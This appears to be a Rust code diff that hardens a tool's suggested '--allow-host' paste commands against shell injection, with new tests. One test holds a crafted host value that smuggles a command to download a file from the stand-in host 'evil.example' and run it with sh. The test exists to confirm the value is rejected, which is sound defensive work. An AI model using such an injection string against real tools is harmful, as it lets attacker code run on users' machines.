@@ -83,7 +83,10 @@ fn outside_scope(resource: &crate::scopes::Resource) -> Option<Fix> {
         paste: vec![
             Paste {
                 into: "command line",
-                text: format!("--scope {}", shell_word(&format!("{kind}={value}"))),
+                text: format!(
+                    "--scope {}",
+                    crate::text::shell_word(&format!("{kind}={value}"))
+                ),
             },
             Paste {
                 into: "wzt.toml",
@@ -93,37 +96,29 @@ fn outside_scope(resource: &crate::scopes::Resource) -> Option<Fix> {
     })
 }
 
-/// `word` as one shell word: as is when it holds only characters no shell treats specially,
-/// else in single quotes.
-pub fn shell_word(word: &str) -> String {
-    if word
-        .chars()
-        .all(|c| c.is_ascii_alphanumeric() || "._-:=/@+,".contains(c))
-    {
-        word.to_string()
-    } else {
-        format!("'{}'", word.replace('\'', "'\\''"))
-    }
-}
-
 /// An outgoing request refused by the local client (`--allow-host` names the pattern to add)
 /// or unanswered by the mock one (a fixture to add).
 fn outgoing_http(args: &str, result: &str) -> Option<Fix> {
     let (method, url) = args.split_once(' ')?;
     if let Some(at) = result.find("--allow-host ") {
-        let pattern: String = result[at + "--allow-host ".len()..]
+        // Only a destination the flag itself would accept, written as it parses: the text
+        // came through a request a client may have shaped.
+        let written: String = result[at + "--allow-host ".len()..]
             .chars()
-            .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | ',' | ')'))
+            .take_while(|c| !c.is_whitespace())
             .collect();
-        if pattern.is_empty() {
-            return None;
-        }
+        let pattern = written
+            .trim_matches(|c| matches!(c, '\'' | ';' | ',' | ')'))
+            .parse::<crate::host::providers::http_client::HostPattern>()
+            .ok()?
+            .to_scope()
+            .to_string();
         return Some(Fix {
             summary: format!("allow the actor to reach {pattern}"),
             paste: vec![
                 Paste {
                     into: "command line",
-                    text: format!("--allow-host {pattern}"),
+                    text: format!("--allow-host {}", crate::text::shell_word(&pattern)),
                 },
                 Paste {
                     into: "wzt.toml",
@@ -200,6 +195,31 @@ mod tests {
         ))
         .unwrap();
         assert_eq!(by_address.paste[0].text, "--allow-host 10.0.0.1:80");
+    }
+
+    #[test]
+    fn a_host_a_client_shaped_never_becomes_a_command_to_paste() {
+        // What an older provider message, or a crafted result, could carry after the flag.
+        let hostile = for_call(&denied(
+            "wasi:http/outgoing-handler.handle",
+            "GET http://x/",
+            "x&curl$IFS-so$IFS'a'$IFS'evil.example'&sh$IFS'a'&:80 is not allowed; allow it with --allow-host x&curl$IFS-so$IFS'a'$IFS'evil.example'&sh$IFS'a'&",
+        ));
+        assert_eq!(hostile, None);
+        let none = for_call(&denied(
+            "wasi:http/outgoing-handler.handle",
+            "GET http://x/",
+            "x&y:80 is not allowed; no allow-host pattern names such a host",
+        ));
+        assert_eq!(none, None);
+        // An IPv6 address is a glob to a shell: quoted.
+        let v6 = for_call(&denied(
+            "wasi:http/outgoing-handler.handle",
+            "GET http://intranet/",
+            "intranet resolves to ::1, a loopback address; a host name never reaches such an address: allow it by address with --allow-host '[::1]:80'",
+        ))
+        .unwrap();
+        assert_eq!(v6.paste[0].text, "--allow-host '[::1]:80'");
     }
 
     #[test]
